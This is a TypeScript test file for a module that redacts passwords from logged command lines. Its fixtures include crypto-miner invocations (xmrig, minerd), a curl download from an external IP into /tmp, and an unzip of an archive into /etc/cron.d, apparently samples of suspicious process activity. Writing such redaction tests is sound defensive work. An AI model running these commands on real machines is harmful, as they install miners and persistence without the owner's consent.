import assert from 'node:assert/strict';
import { test } from 'node:test';
import { redactCommandLine, redactText } from '#shared/classify/redact.ts';

const KEEP = (): boolean => false;
const SECRET = 'Hunter2hunter';

const HIDDEN: readonly (readonly [string, string])[] = [
  [`xmrig -kp${SECRET} -o h:3333`, 'xmrig -kp[redacted] -o h:3333'],
  [`xmrig -kBp${SECRET} -o h:3333`, 'xmrig -kBp[redacted] -o h:3333'],
  [`xmrig -kBp ${SECRET} -o h:3333`, 'xmrig -kBp [redacted] -o h:3333'],
  [`xmrig -kOu:${SECRET} -o h:3333`, 'xmrig -kOu:[redacted] -o h:3333'],
  [`xmrig -kO u:${SECRET} -o h:3333`, 'xmrig -kO u:[redacted] -o h:3333'],
  [`minerd -qp ${SECRET}`, 'minerd -qp [redacted]'],
  [`minerd -qO u:${SECRET}`, 'minerd -qO u:[redacted]'],
  [`curl -suu:${SECRET} -o /tmp/x http://198.51.100.7/x`, 'curl -suu:[redacted] -o /tmp/x http://198.51.100.7/x'],
  [`unzip -P${SECRET} /tmp/a.zip -d /etc/cron.d`, 'unzip -P[redacted] /tmp/a.zip -d /etc/cron.d'],
  ['unzip -PHunter2secret /tmp/a.zip', 'unzip -P[redacted] /tmp/a.zip'],
  [`ldapsearch -w${SECRET} -x`, 'ldapsearch -w[redacted] -x'],
];

for (const [line, shown] of HIDDEN) {
  test(`hides the secret of ${line}`, () => {
    assert.equal(redactCommandLine(line.split(' '), KEEP).join(' '), shown);
    assert.equal(redactText(line, KEEP), shown);
  });
}

for (const line of [
  'rsync -qp /tmp/a /etc/b',
  'scp -p /tmp/a host:/b',
  'xmrig -kB -o h:3333',
  'curl -su x http://198.51.100.7/',
  'ps -Sp 12',
]) {
  test(`shows ${line} whole`, () => {
    assert.equal(redactCommandLine(line.split(' '), KEEP).join(' '), line);
    assert.equal(redactText(line, KEEP), line);
  });
}
